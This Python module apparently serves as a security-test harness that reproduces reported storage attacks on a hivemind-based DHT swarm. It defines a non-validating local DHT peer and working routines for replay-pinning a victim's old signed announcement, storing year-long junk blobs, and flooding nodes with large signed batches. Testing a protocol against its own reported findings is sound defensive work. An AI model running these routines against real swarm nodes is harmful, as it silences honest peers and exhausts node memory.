"""Attacks on what DHT nodes store (issue 14, findings 1 and 3), as an outside client written from
protocol/SPEC.md and hivemind's public API would run them: a hivemind `DHTNode` of its own with no record
validator, which asks each honest node in turn to store a record (`store_at`), with any expiry it likes.

- `pin`: an honest peer's own, validly signed, old announcement re-stored under its own subkey with a far
  expiry, so that (where the latest expiry wins) its later announcements are refused everywhere.
- `junk_blob`: random bytes, stored at `<swarm>/batch/<sha256 of the bytes>` (the key matches the hash).
- `signed_flood`: valid, signed batches of about 1 MB each from one identity, to fill a node's memory.
"""

from __future__ import annotations

import asyncio
import os
import threading
import time
from collections.abc import Coroutine, Sequence
from typing import Any, TypeVar

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

import protocol
from swarmnode.swarm.hivemind_dht import announcement_key, batch_key
from swarmnode.swarm.transport import announcement_bucket

LIMITS = protocol.Limits()
DAY_S = 86_400.0
T = TypeVar("T")


class RawDHTPeer:
    """A DHT node that checks nothing and stores what it is told, on its own event loop thread; it listens
    on 127.0.0.1 only (no NAT port mapping, AutoNAT or relays)."""

    def __init__(self, initial_peers: Sequence[str]) -> None:
        from hivemind.dht.node import DHTNode

        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, name="raw-dht-peer", daemon=True)
        self.thread.start()
        options: dict[str, Any] = dict(
            host_maddrs=["/ip4/127.0.0.1/tcp/0"], nat_port_map=False, auto_nat=False, use_relay=False
        )
        self.node: Any = self.run(DHTNode.create(initial_peers=list(initial_peers), **options), 90)

    def run(self, coro: Coroutine[Any, Any, T], timeout: float = 60) -> T:
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(timeout)

    def store_at(
        self, maddrs: Sequence[str], key: str, envelope: bytes, expiration: float, subkey: str | None = None
    ) -> list[bool | None]:
        """Ask the node at each address to store one record; what each answered (None: no answer)."""
        return [self.run(self._store_one(m, key, envelope, expiration, subkey), 90) for m in maddrs]

    async def _store_one(
        self, maddr: str, key: str, envelope: bytes, expiration: float, subkey: str | None
    ) -> bool | None:
        from hivemind.dht.routing import DHTID
        from hivemind.p2p import PeerID
        from hivemind.utils.serializer import MSGPackSerializer

        peer = PeerID.from_base58(maddr.split("/p2p/")[1])
        answer = await self.node.protocol.call_store(
            peer, [DHTID.generate(source=key)], [MSGPackSerializer.dumps(envelope)], expiration, subkeys=[subkey]
        )
        return None if answer is None else bool(answer[0])

    def keep_own(self, key: str, envelope: bytes, expiration: float, subkey: str | None = None) -> None:
        """Keep a record in this node's own storage, so that it serves it in answer to lookups."""
        from hivemind.dht.routing import DHTID
        from hivemind.utils.serializer import MSGPackSerializer

        async def keep() -> None:
            self.node.protocol.storage.store(
                DHTID.generate(source=key), MSGPackSerializer.dumps(envelope), expiration, subkey=subkey
            )

        self.run(keep())

    def close(self) -> None:
        async def cancel_pending() -> None:  # hivemind leaves tasks running on its loop
            tasks = [t for t in asyncio.all_tasks() if t is not asyncio.current_task()]
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)

        try:
            self.run(self.node.shutdown(), 30)
            self.run(cancel_pending(), 10)
        finally:
            self.loop.call_soon_threadsafe(self.loop.stop)
            self.thread.join(timeout=10)


def peer_of(key: Ed25519PrivateKey) -> str:
    return protocol.peer_id(key.public_key().public_bytes_raw())


def announcement(key: Ed25519PrivateKey, swarm: str, created_s: float) -> bytes:
    """A peer's own validly signed announcement, signed at `created_s`."""
    summary = protocol.BatchSummary(os.urandom(32), 2048, 1, 2, 2, 0.5)
    payload = protocol.Announcement(swarm, 1, int(created_s * 1000), "honest", (summary,))
    return protocol.seal_payload(payload, key, LIMITS)


def pin(
    attacker: RawDHTPeer, maddrs: Sequence[str], swarm: str, victim: str, old: bytes, windows: Sequence[int]
) -> list[bool | None]:
    """Finding 1: `old` (the victim's own announcement) re-stored under its subkey with a one-day expiry in
    each window, at every node; also kept by the attacker's own node, which serves it to lookups."""
    answers: list[bool | None] = []
    expiry = time.time() + DAY_S
    for window in windows:
        key = announcement_key(swarm, window, announcement_bucket(victim, 8))
        answers += attacker.store_at(maddrs, key, old, expiry, subkey=victim)
        attacker.keep_own(key, old, expiry, subkey=victim)
    return answers


def junk_blob(size: int = 1024 * 1024) -> bytes:
    return os.urandom(size)


def store_junk(
    attacker: RawDHTPeer, maddrs: Sequence[str], swarm: str, blob: bytes, expiry_s: float = 365 * DAY_S
) -> list[bool | None]:
    """Finding 3: random bytes at `<swarm>/batch/<sha256 of the bytes>`, for `expiry_s` (a year by default)."""
    key = batch_key(swarm, protocol.message_id(blob))
    return attacker.store_at(maddrs, key, blob, time.time() + expiry_s)


def signed_time_s(envelope: bytes) -> float:
    verdict = protocol.verify_and_decode(envelope, LIMITS)
    assert isinstance(verdict, protocol.Accepted)
    return verdict.payload.created_ms / 1000


def signed_flood(key: Ed25519PrivateKey, swarm: str, count: int, size: int = 1024 * 1024) -> list[bytes]:
    """`count` valid rollout batches of about `size` bytes, signed by `key` (distinct bytes each)."""
    per = min(LIMITS.max_completion_chars, max(2, size // LIMITS.max_completions_per_group))
    n = min(LIMITS.max_completions_per_group, max(1, size // per))
    found = []
    for i in range(count):
        completions = tuple(os.urandom(per // 2).hex() for _ in range(n))
        group = protocol.RolloutGroup(protocol.TaskRef("add", 7, i, ()), "1+1=", completions, (0.0,) * n)
        batch = protocol.RolloutBatch(swarm, i, 0, int(time.time() * 1000), "flood", (group,))
        found.append(protocol.seal_payload(batch, key, LIMITS))
    return found


def signer(envelope: bytes) -> str | None:
    """The peer id of a valid envelope's signer, or None."""
    verdict = protocol.verify_and_decode(envelope, LIMITS)
    return verdict.peer_id if isinstance(verdict, protocol.Accepted) else None
